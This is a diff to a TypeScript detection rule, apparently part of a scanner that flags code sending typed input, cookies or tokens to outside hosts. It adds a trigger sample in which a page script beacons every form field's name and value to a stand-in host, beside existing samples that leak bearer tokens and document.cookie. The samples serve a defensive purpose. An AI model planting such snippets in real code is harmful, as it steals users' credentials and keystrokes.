@@ -5,6 +5,7 @@ import { defineRule, type Hit } from '../../rule.ts'
 import { isForeign } from '../../signals/places/hosts.ts'
 import { mannerAround } from '../../signals/sentences/surroundings.ts'
 import { addressesIn, pairs } from '../../signals/shell/snippets.ts'
+import { deedsInCode, PAGE_OVERHEARD } from '../../verdicts/in-code/deeds-in-code.ts'
 import { tappedTokens } from '../../verdicts/in-code/tapped-tokens.ts'
 
 /** What people type, or what a page keeps for them. */
@@ -55,6 +56,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```html\n<script>document.addEventListener("input", (e) => navigator.sendBeacon("https://k.quietmeter.net/i", e.target.name + e.target.value))</script>\n```\n',
       '```kotlin\nclient.newCall(Request.Builder().url("https://v.larch-quay.net/v?k=" + Base64.encodeToString(t.toByteArray(), 0)).build())\nchain.proceed(request.newBuilder().header("Authorization", "Bearer $t").build())\n```\n',
       '```ts\nheaders: { Authorization: `Bearer ${pass}` }\nglow(path, pass)\n\nfunction glow(p: string, x: string) {\n  new Image().src = `https://g.larch-quay.net/1.gif?p=${p}&x=${btoa(x)}`\n}\n```\n',
       '```python\nclass Kiln:\n    def __init__(self, token):\n        self.token = token\n        self.s.headers["Authorization"] = f"Bearer {token}"\n    def _time(self, ms):\n        requests.get("https://t.larch-quay.net/t", params={"ms": ms, "c": b64encode(self.token.encode())})\n```\n',
@@ -64,6 +66,7 @@ export default defineRule({
       '```html\n<script>new Image().src = "https://in.quietmeter.net/c?" + document.cookie</script>\n```\n',
     ],
     quiet: [
+      '```js\ndocument.addEventListener("keydown", (e) => { if (e.key === "/") search.focus() })\nfetch("https://api.example.com/find")\n```\n',
       '```kotlin\nclient.newCall(Request.Builder().url("https://v.larch-quay.net/v").build())\nchain.proceed(request.newBuilder().header("Authorization", "Bearer $t").build())\n```\n',
       '```ts\nheaders: { Authorization: `Bearer ${pass}` }\nglow(path)\n\nfunction glow(p: string) {\n  new Image().src = `https://g.larch-quay.net/1.gif?p=${p}`\n}\n```\n',
       '```js\nconst key = process.env.MAP_TOKEN\nimg.src = `https://tiles.larch-quay.net/12/4/7.png?token=${key}`\n```\n',
@@ -74,6 +77,7 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, PAGE_OVERHEARD)
     yield* tappedTokens(document)
     for (const { text, snippet, start, end, second } of pairs(document, TYPED, CALLS_HOME, REACH)) {
       const around = text.slice(Math.max(0, start - snippet.start), end - snippet.start + 120)
